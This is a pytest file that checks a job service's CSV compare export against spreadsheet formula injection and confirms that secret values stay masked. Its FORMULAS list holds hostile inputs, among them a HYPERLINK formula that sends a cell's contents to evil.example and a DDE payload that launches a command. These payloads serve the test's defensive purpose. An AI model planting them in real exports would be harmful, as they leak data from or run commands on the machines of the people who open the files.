"""The compare export (GET /compare.csv) opened in a spreadsheet: a job's name, owner or parameter
chosen to look like a formula stays text; and a comparison shows a secret's value nowhere."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from inproc import in_process

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula(tmp_path: Path, formula: str) -> None:
    with in_process(tmp_path / "home") as ip:
        h = ip.auth(ip.admin)
        spec = {"command": ["true"], "name": formula, "params": {"note": formula}}
        job = ip.client.post("/api/v1/jobs", json={"spec": spec}, headers=h).json()
        r = ip.client.get("/api/v1/compare.csv", params={"ids": job["id"]}, headers=h)
        assert r.status_code == 200, r.text
        header, row = list(csv.reader(io.StringIO(r.text, newline="")))
        cells = dict(zip(header, row))
        assert cells["name"] == "'" + formula and cells["param.note"] == "'" + formula
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in header + row)


def test_a_comparison_shows_secrets_masked(tmp_path: Path) -> None:
    with in_process(tmp_path / "home") as ip:
        h = ip.auth(ip.admin)
        ids = [ip.client.post("/api/v1/jobs", headers=h, json={"spec": {
            "command": ["true"], "secrets": {"DB_PASSWORD": value}}}).json()["id"] for value in ("pw-one-7f", "pw-two-9a")]
        for path in ("/api/v1/compare", "/api/v1/compare.csv"):
            r = ip.client.get(path, params={"ids": ",".join(map(str, ids))}, headers=h)
            assert r.status_code == 200 and "pw-one-7f" not in r.text and "pw-two-9a" not in r.text
        page = ip.client.get("/api/v1/compare", params={"ids": ",".join(map(str, ids))}, headers=h).json()
        # both values are hidden alike, so that they differ does not show either
        assert not [d for d in page["spec_differences"] if d["field"].startswith("secrets.")]
